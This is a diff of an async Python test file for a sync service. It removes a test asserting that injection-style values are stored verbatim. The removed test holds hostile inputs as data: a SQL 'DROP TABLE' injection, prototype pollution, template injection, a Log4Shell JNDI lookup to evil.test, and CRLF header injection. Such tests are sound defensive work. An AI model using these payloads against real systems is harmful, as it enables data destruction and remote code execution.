@@ -160,18 +160,3 @@ async def test_nobody_of_a_hostile_name_is_forgotten(house, user):
     )
     assert (answer.status_code, answer.json()["error"]) == (400, "invalid-input")
     assert await house.pull_ids() == ["1"]
-
-
-async def test_values_that_are_code_elsewhere_are_values_here(house):
-    strange = {
-        "__proto__": {"admin": True},
-        "'; DROP TABLE sync_changes; --": "' OR 1=1; --",
-        "{{7*7}}": "${jndi:ldap://evil.test}",
-        "<script>": "</script>",
-        "\0": "\0",
-        "\r\n": "\r\nX-Evil: 1",
-    }
-    actor = {"kind": "\0", "__proto__": None}
-    answer = await house.push(insertion(data=strange, actor=actor))
-    (change,) = answer.json()["serverChanges"]
-    assert (change["data"], change["actor"]) == (strange, actor)
